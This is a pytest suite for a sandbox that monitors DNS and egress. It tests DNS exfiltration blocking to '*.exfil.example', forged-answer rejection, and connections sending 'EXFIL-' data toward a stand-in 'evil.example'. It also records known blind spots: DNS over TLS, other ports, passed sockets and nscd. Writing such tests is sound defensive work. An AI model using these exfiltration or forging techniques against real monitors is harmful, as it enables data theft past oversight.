# SPDX-License-Identifier: Apache-2.0
"""dns.*: what a loader asks, and the answers it gets."""

import os
import socket
import struct

import pytest

import box as b
import nameserver as ns
from loader import Loader
from test_net import NO_MPTCP

SERVER = "127.0.0.1"
RECORD = ["dns.*", "net.connect"]
GETADDRINFO = "import socket, sys; print(sorted({a[4][0] for a in " \
    "socket.getaddrinfo(sys.argv[1], 80, type=socket.SOCK_STREAM)}))"


@pytest.fixture(scope="module", autouse=True)
def resolv_conf(box):
    """Of this mount namespace."""
    text = f"nameserver {SERVER}\noptions timeout:2 attempts:1\n"
    b.sh(f"mount --bind {box.write('resolv.conf', text)} /etc/resolv.conf")
    yield
    b.sh("umount /etc/resolv.conf")


def test_names_and_addresses_are_recorded(box):
    table = {"huggingface.co": [b.EXT, b.EXT6, ("cname", "edge.example.net")]}
    with ns.Server(table) as server:
        done = box.run(b.PYTHON, "-c", GETADDRINFO, "HuggingFace.co", record=RECORD)
    assert done.rc == 0, done.text
    assert done.out.decode().strip() == str(sorted([b.EXT, b.EXT6]))
    assert set(server.names()) == {"HuggingFace.co"}
    queries = done.records.find("dns.query")
    assert {b.get(r, "dns.question.type") for r in queries} == {"A", "AAAA"}
    for r in queries:
        assert b.get(r, "dns.question.name") == "huggingface.co"
        assert b.get(r, "destination.ip") == SERVER and b.get(r, "destination.port") == 53
        assert b.get(r, "network.transport") == "udp" and b.get(r, "network.protocol") == "dns"
        assert b.get(r, "process.executable") == b.PYTHON or "python" in b.get(r, "process.name")
        assert not b.get(r, "dns.operation")
    answers = done.records.find("dns.answer")
    ips = [ip for r in answers for ip in b.get(r, "dns.resolved_ip")]
    assert sorted(ips) == sorted([b.EXT, b.EXT6])
    assert {b.get(r, "dns.response_code") for r in answers} == {"NOERROR"}
    assert {b.get(r, "dns.id") for r in answers} == {b.get(r, "dns.id") for r in queries}


OTHER = "203.0.113.8"
CONNECT = """
import socket, sys
for host in sys.argv[1:]:
    try:
        with socket.create_connection((host, 4443), timeout=10) as s:
            s.sendall(b"EXFIL-" + host.encode() + b".")
        print(host, 0)
    except OSError as e:
        print(host, e.errno)
"""
HUB = [{"id": "hub", "on": "net.connect", "domain": ["huggingface.co", "*.hf.co"], "port": [4443],
        "action": "allow"},
       {"id": "dns", "on": ["net.connect", "net.send"], "port": [53], "action": "allow"},
       {"id": "egress", "on": ["net.connect", "net.send"], "cidr": ["0.0.0.0/0", "::/0"],
        "action": "deny"}]


@pytest.fixture(scope="module", autouse=True)
def other_address():
    b.sh(f"ip addr add {OTHER}/32 dev lo")
    yield
    b.sh(f"ip addr del {OTHER}/32 dev lo")


def outcome(done):
    return dict(line.split() for line in done.out.decode().splitlines())


def test_a_domain_covers_the_addresses_of_its_answers_only(box):
    table = {"huggingface.co": [b.EXT], "evil.example": [OTHER]}
    with ns.Server(table), b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)) as sink:
        done = box.run(b.PYTHON, "-c", CONNECT, b.EXT, "huggingface.co", b.EXT, "evil.example",
                       OTHER, rules=HUB, record=["net.connect"])
        sink.got(b"EXFIL-huggingface.co.")
    assert done.out.decode().splitlines() == \
        [f"{b.EXT} 1", "huggingface.co 0", f"{b.EXT} 0", "evil.example 1", f"{OTHER} 1"]
    allowed = done.records.find("net.connect", rule__id="hub")
    assert [b.get(r, "destination.domain") for r in allowed] == ["huggingface.co"] * 2
    assert b"evil" not in sink.data


# ---------------------------------------------------------------------- answers that count
def learned(box, table, *hosts, rules=HUB, server=SERVER, env=None):
    """What became of connections to hosts, when a server answers that table. {host: errno}"""
    with ns.Server(table, server), \
            b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)) as sink:
        done = box.run(b.PYTHON, "-c", CONNECT, *hosts, rules=rules,
                       **({"env": {**box.environment(), **env}} if env else {}))
        out = outcome(done)
        for host, errno in out.items():
            if errno == "0":
                sink.got(b"EXFIL-" + host.encode() + b".")
    assert done.rc == 0, done.text
    return out


TCP = {"RES_OPTIONS": "use-vc"}


@pytest.mark.parametrize("env", [None, TCP], ids=["udp", "tcp"])
def test_aliases_on_the_way_do_not_matter(box, env):
    def table(message):
        return ns.answer(message, [ns.record(("cname", "edge.example.net")),
                                   ns.record(b.EXT, name=ns.wire("edge.example.net"))])
    assert learned(box, table, "huggingface.co", b.EXT, env=env) == \
        {"huggingface.co": "0", b.EXT: "0"}


@pytest.mark.parametrize("cut", [1, 2, 3, 13, 30])
def test_answers_of_a_stream_come_in_pieces(box, cut):
    def table(message):
        whole = ns.answer(message, [ns.record(b.EXT)])
        whole = struct.pack(">H", len(whole)) + whole
        return [whole[:cut], whole[cut:]]
    assert learned(box, table, "huggingface.co", env=TCP) == {"huggingface.co": "0"}


def test_the_stub_of_systemd_resolved_is_a_server_like_others(box):
    """Where resolv.conf names 127.0.0.53, which answers there is no matter."""
    b.sh(f"mount --bind {box.write('stub.conf', 'nameserver 127.0.0.53')} /etc/resolv.conf")
    try:
        assert learned(box, {"huggingface.co": [b.EXT]}, b.EXT, "huggingface.co", b.EXT,
                       server="127.0.0.53") == {b.EXT: "0", "huggingface.co": "0"}
    finally:
        b.sh("umount /etc/resolv.conf")


def other_number(message):
    return bytes([message[0] ^ 1]) + message[1:]


def other_name(message):
    return message.replace(b"\x0bhuggingface", b"\x0bhuggingfacd")


FORGED = {
    "number": lambda m: ns.answer(other_number(m), [ns.record(b.EXT)]),
    "question": lambda m: ns.answer(other_name(m), [ns.record(b.EXT)]),
    "no-answer": lambda m: m[:2] + b"\x01\x00" + ns.answer(m, [ns.record(b.EXT)])[4:],
    "error": lambda m: ns.answer(m, [ns.record(b.EXT)], flags=0x8183),
    "cut-short": lambda m: ns.answer(m, [ns.record(b.EXT)])[:-1],
    "two-questions": lambda m: m[:4] + b"\x00\x02" + ns.answer(m, [ns.record(b.EXT)])[6:],
}
ASK = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(10)
s.connect(("127.0.0.1", 53))
s.send(bytes.fromhex(sys.argv[1]))
s.recv(4096)
""" + CONNECT.replace("argv[1:]", "argv[2:]")


@pytest.mark.parametrize("how", FORGED)
def test_an_answer_that_answers_nothing_is_not_believed(box, how):
    """The loader, which may be the attacker's, gets it all the same."""
    with ns.Server(FORGED[how]), \
            b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)) as sink:
        done = box.run(b.PYTHON, "-c", ASK, ns.query("huggingface.co").hex(), b.EXT, rules=HUB)
        assert done.rc == 0, done.text
        assert outcome(done) == {b.EXT: "1"}
    assert not sink.data
    honest = {"huggingface.co": [b.EXT]}
    with ns.Server(honest), \
            b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)) as sink:
        done = box.run(b.PYTHON, "-c", ASK, ns.query("huggingface.co").hex(), b.EXT, rules=HUB)
        assert outcome(done) == {b.EXT: "0"}, "the question itself is a good one"


def test_an_answer_of_a_server_that_nobody_named_is_not_believed(box):
    code = ASK.replace("127.0.0.1", b.EXT)
    with ns.Server({"huggingface.co": [OTHER]}, b.EXT), \
            b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)):
        done = box.run(b.PYTHON, "-c", code, ns.query("huggingface.co").hex(), OTHER, rules=HUB,
                       record=["dns.*"])
    assert outcome(done) == {OTHER: "1"}
    query, = done.records.find("dns.query")
    assert b.get(query, "dns.operation") == ["foreign"]


def test_what_one_loader_learns_is_not_for_another(box):
    with ns.Server({"huggingface.co": [b.EXT]}), \
            b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)):
        first, log = box.start(b.PYTHON, "-c", CONNECT + "sys.stdout.flush(); sys.stdin.read()",
                               "huggingface.co", rules=HUB, stdin=-1)
        assert first.stdout.readline() == b"huggingface.co 0\n"
        second = box.run(b.PYTHON, "-c", CONNECT, b.EXT, rules=HUB)
        assert outcome(second) == {b.EXT: "1"}
        assert box.finish(first, log, b"").rc == 0


# ---------------------------------------------------------------------- more answers that count
def test_questions_with_options_are_ordinary(box):
    """EDNS and the AD bit, as resolv.conf of many machines asks for them."""
    rules = [{"id": "strange", "on": "dns.query", "action": "deny",
              "operation": ["long", "deep", "odd", "txt", "rare", "malformed", "foreign"]}, *HUB]
    assert learned(box, {"huggingface.co": [b.EXT]}, "huggingface.co", rules=rules,
                   env={"RES_OPTIONS": "edns0 trust-ad"}) == {"huggingface.co": "0"}


def test_an_answer_that_is_cut_short_is_asked_for_again(box):
    """Over a stream. The addresses that it had room for are answered, too."""
    asked = []

    def table(message):
        asked.append(message)
        cut = len(asked) == 1
        return ns.answer(message, [ns.record(OTHER if cut else b.EXT)], 0x8380 if cut else 0x8180)
    assert learned(box, table, "huggingface.co", b.EXT, OTHER) == \
        {"huggingface.co": "0", b.EXT: "0", OTHER: "0"}
    assert len(asked) > 1


def test_addresses_of_both_families(box):
    """An IPv4 address may be reached by an IPv6 socket."""
    code = """
import socket, sys
socket.getaddrinfo("huggingface.co", 4443, type=socket.SOCK_STREAM)
for host in sys.argv[1:]:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        print(host, s.connect_ex((host, 4443)))
"""
    mapped, other = f"::ffff:{b.EXT}", f"::ffff:{OTHER}"
    with ns.Server({"huggingface.co": [b.EXT, b.EXT6]}), \
            b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)), \
            b.Sink(socket.AF_INET6, socket.SOCK_STREAM, (b.EXT6, 4443)):
        done = box.run(b.PYTHON, "-c", code, b.EXT6, mapped, other, rules=HUB)
    assert outcome(done) == {b.EXT6: "0", mapped: "0", other: "1"}, done.text


def test_two_answers_of_a_stream_in_one_piece(box):
    code = """
import socket, sys
s = socket.create_connection(("127.0.0.1", 53), timeout=10)
for hexed in sys.argv[1].split(","):
    s.sendall(len(bytes.fromhex(hexed)).to_bytes(2, "big") + bytes.fromhex(hexed))
got = b""
while len(got) < int(sys.argv[2]):
    got += s.recv(4096)
""" + CONNECT.replace("argv[1:]", "argv[3:]")
    questions = [ns.query("huggingface.co", number=7), ns.query("cdn.hf.co", number=8)]
    answers = [ns.answer(q, [ns.record(a)]) for q, a in zip(questions, (b.EXT, OTHER))]
    both = b"".join(struct.pack(">H", len(a)) + a for a in answers)
    asked = []

    def table(message):
        asked.append(message)
        return [both] if len(asked) == 2 else None
    with ns.Server(table), b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)):
        done = box.run(b.PYTHON, "-c", code, ",".join(q.hex() for q in questions), len(both),
                       b.EXT, OTHER, rules=HUB)
    assert outcome(done) == {b.EXT: "0", OTHER: "0"}, done.text


@pytest.mark.parametrize("source, errno", [(SERVER, "0"), (b.EXT, "1")], ids=["same", "another"])
def test_an_answer_comes_from_the_server_that_was_asked(box, source, errno):
    """An unconnected socket takes it from anybody."""
    code = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(10)
s.sendto(bytes.fromhex(sys.argv[1]), ("127.0.0.1", 53))
s.recv(4096)
""" + CONNECT.replace("argv[1:]", "argv[2:]")
    asked = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asked.settimeout(b.PATIENCE)
    asked.bind((SERVER, 53))
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if source != SERVER:
        forger.bind((source, 53))
    with asked, forger, b.Sink(socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", 4443)):
        process, log = box.start(b.PYTHON, "-c", code, ns.query("huggingface.co").hex(), OTHER,
                                 rules=HUB)
        message, peer = asked.recvfrom(4096)
        (asked if source == SERVER else forger).sendto(
            ns.answer(message, [ns.record(OTHER)]), peer)
        done = box.finish(process, log)
    assert outcome(done) == {OTHER: errno}, done.text


# ---------------------------------------------------------------------- ways to ask
WAYS = b.ways("dns_ways")
EXFIL = "exfil.example"


def attempt(box, action, mode):
    def table(message):
        return ns.answer(message, [])
    rules = [{"id": "exfil", "on": "dns.query", "domain": [f"*.{EXFIL}"], "action": action}]
    with ns.Server(table) as server, ns.Server(table, "::1") as six:
        with Loader(box, rules=rules, mode=mode) as loader:
            done = loader.run(b.TRIGGERS / "dns_ways", "all", SERVER)
            names = [n.lower() for n in server.names() + six.names()]
        assert done.rc == 0, done.text
    return done, names


@pytest.fixture(scope="module")
def denied(box):
    return attempt(box, "deny", "enforce")


@pytest.fixture(scope="module")
def seen(box):
    return attempt(box, "deny", "observe")


@pytest.mark.parametrize("way", WAYS)
def test_a_question_is_stopped(denied, way, guarantee):
    done, names = denied
    truth = done.truths[way]
    if way == "tcp-mptcp" and NO_MPTCP:
        guarantee.impossible(f"dns.{way}", {"errno": NO_MPTCP, "got": 0})
        return
    alerts = [r for r in done.records.alerts("dns.query")
              if b.get(r, "dns.question.name") == f"{way}.{EXFIL}"]
    assert guarantee(f"dns.{way}", alerts, f"{way}.{EXFIL}" in names) == "denied"
    assert not truth["got"]
    assert {b.get(r, "rule.id") for r in alerts} == {"exfil"}


@pytest.mark.parametrize("way", WAYS)
def test_a_question_is_seen_once(seen, way):
    done, names = seen
    assert f"{way}.{EXFIL}" in names
    alert, = [r for r in done.records.alerts("dns.query")
              if b.get(r, "dns.question.name") == f"{way}.{EXFIL}"]
    assert b.get(alert, "enforcement.outcome") == "alerted"
    assert b.get(alert, "network.transport") == way.split("-")[0].rstrip("6")
    assert b.get(alert, "destination.port") == 53


def test_what_waits_in_a_socket_when_the_monitor_ends(box, guarantee):
    """A packet is denied, and TCP goes on trying: also when its process and the hooks are gone."""
    rules = [{"id": "exfil", "on": "dns.query", "domain": [f"*.{EXFIL}"], "action": "deny"}]
    with ns.Server(lambda message: ns.answer(message, [])) as server:
        done = box.run(b.TRIGGERS / "dns_ways", "tcp", SERVER, rules=rules)
        assert done.records.alerts("dns.query") and not done.truths["tcp"]["got"]
        b.until(lambda: f"tcp.{EXFIL}" in server.names(), "the question, sent once more")
    guarantee("dns.tcp-left", [], happened=True)


def test_a_question_can_be_the_end_of_a_loader(box):
    rules = [{"id": "exfil", "on": "dns.query", "domain": [f"*.{EXFIL}"], "action": "kill"}]
    with ns.Server({}) as server:
        done = box.run(b.TRIGGERS / "dns_ways", "udp-sendto,tcp", SERVER, rules=rules)
    # What TCP keeps may be sent when the last loader and its hooks have gone: row dns.tcp-left.
    assert not [name for name in server.names() if not name.startswith("tcp.")]
    for way in ("udp-sendto", "tcp"):
        assert not done.truths[way]["got"]
    assert done.truths["udp-sendto"]["signal"] == 9


# ---------------------------------------------------------------------- odd questions
ODD = {
    "long": ns.query("a" * 60 + ".example"),
    "deep": ns.query("a.b.c.d.e.f.g.h.example"),
    "odd": ns.query(b"\x05a\x00b!c\x07example\x00"),
    "txt": ns.query("example", kind=ns.TXT),
    "rare": ns.query("example", kind=10),
    "malformed": ns.query("example")[:-3],
}
SEND = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.1", 53))
for hexed in sys.argv[1:]:
    try:
        s.send(bytes.fromhex(hexed))
        print("sent")
    except OSError as e:
        print(e.errno)
"""


@pytest.mark.parametrize("word", ODD)
def test_odd_questions_can_be_forbidden(box, word):
    rules = [{"id": "odd", "on": "dns.query", "operation": [word], "action": "deny"}]
    done = box.run(b.PYTHON, "-c", SEND, ODD[word].hex(), ns.query("example").hex(), rules=rules)
    assert done.out.decode().split() == ["1", "sent"], done.text
    alert, = done.records.alerts("dns.query")
    assert word in b.get(alert, "dns.operation")


def test_many_names_can_be_forbidden(box):
    rules = [{"id": "many", "on": "dns.query", "operation": ["many"], "action": "deny"}]
    names = [ns.query(f"n{i}.example").hex() for i in range(100)]
    with ns.Server({}):
        done = box.run(b.PYTHON, "-c", SEND, *names, rules=rules)
        few = box.run(b.PYTHON, "-c", SEND, *names[:3] * 100, rules=rules)
    out = done.out.decode().split()
    assert out[:64] == ["sent"] * 64 and "1" in out[64:]
    assert few.out.decode().split() == ["sent"] * 300 and not few.records.alerts()


# ---------------------------------------------------------------------- names that are not seen
def test_a_name_server_on_another_port_is_not_read(box, guarantee):
    code = SEND.replace("53)", "5353)")
    with ns.Server({}, port=5353) as server:
        done = box.run(b.PYTHON, "-c", code, ns.query(EXFIL).hex(), record=RECORD,
                       rules=[{"id": "x", "on": "dns.query", "action": "deny"}])
        b.until(server.names, "the question at the server")
    guarantee("dns.other-port", done.records.alerts(), EXFIL in server.names())
    connect, = done.records.find("net.connect")
    assert b.get(connect, "destination.port") == 5353


def test_names_over_tls_are_not_read(box, guarantee):
    code = SEND.replace("53)", "853)").replace("SOCK_DGRAM", "SOCK_STREAM")
    with b.Sink(socket.AF_INET, socket.SOCK_STREAM, (SERVER, 853)) as sink:
        done = box.run(b.PYTHON, "-c", code, ns.query(EXFIL).hex(), record=RECORD,
                       rules=[{"id": "x", "on": "dns.query", "action": "deny"}])
        sink.got(b"\x05exfil")
    guarantee("dns.tls", done.records.alerts(), b"\x05exfil" in sink.data)


@pytest.mark.parametrize("kind", [socket.SOCK_DGRAM, socket.SOCK_STREAM], ids=["udp", "tcp"])
def test_a_socket_that_another_process_connected(box, kind, guarantee):
    """It was connected before there was a loader, and handed in."""
    code = "import os, sys; os.write(0, bytes.fromhex(sys.argv[1])); os.read(0, 4096)"
    message = ns.query(EXFIL)
    if kind == socket.SOCK_STREAM:
        message = struct.pack(">H", len(message)) + message
    with ns.Server({EXFIL: [OTHER]}) as server, \
            socket.socket(socket.AF_INET, kind) as s:
        s.connect((SERVER, 53))
        process, log = box.start(b.PYTHON, "-c", code, message.hex(), stdin=s.fileno(),
                                 rules=[{"id": "x", "on": "dns.query", "action": "deny"}])
        done = box.finish(process, log)
        how = "udp" if kind == socket.SOCK_DGRAM else "tcp"
        guarantee(f"dns.{how}-passed", done.records.alerts(), EXFIL in server.names())


@pytest.fixture
def nscd(box):
    """The real one."""
    if "LOADWARD_NSCD" not in os.environ:
        pytest.skip("cannot: the distribution's nscd cannot be had")
    os.makedirs("/run/nscd", exist_ok=True)
    b.sh(f"mount --bind {box.new('run-nscd')} /run/nscd")
    conf = box.write("nscd.conf", "enable-cache hosts yes\nserver-user root\nparanoia no\n")
    process = box.spawn([os.environ["LOADWARD_NSCD"], "-F", "-f", conf])
    b.until(lambda: os.path.exists("/run/nscd/socket"), "nscd's socket")
    yield
    process.terminate()
    process.wait()
    b.sh("umount /run/nscd")


def test_what_nscd_asks_is_not_seen(box, nscd, guarantee):
    """But that it was asked; no domain rule covers the answer; and where it may not be asked, the C
    library asks by itself."""
    rule = {"id": "exfil", "on": "dns.query", "domain": [EXFIL], "action": "deny"}
    with ns.Server({EXFIL: [OTHER], "huggingface.co": [b.EXT]}) as server:
        done = box.run(b.PYTHON, "-c", GETADDRINFO, EXFIL, rules=[rule], record=RECORD)
        guarantee("dns.nscd", done.records.alerts(), EXFIL in server.names())
        assert OTHER in done.out.decode()
        assert "/run/nscd/socket" in {b.get(r, "file.path") or b.get(r, "destination.path")
                                      for r in done.records.find("net.connect")}
        done = box.run(b.PYTHON, "-c", CONNECT, "huggingface.co", rules=HUB)
        assert outcome(done) == {"huggingface.co": "1"}
        server.seen.clear()
        own = {"id": "nscd", "on": "net.connect", "action": "deny",
               "path": ["/run/nscd/socket", "/var/run/nscd/socket"]}
        done = box.run(b.PYTHON, "-c", GETADDRINFO, EXFIL, rules=[own, rule])
        assert done.rc and not server.names()
        assert [b.get(r, "dns.question.name") for r in done.records.alerts("dns.query")]
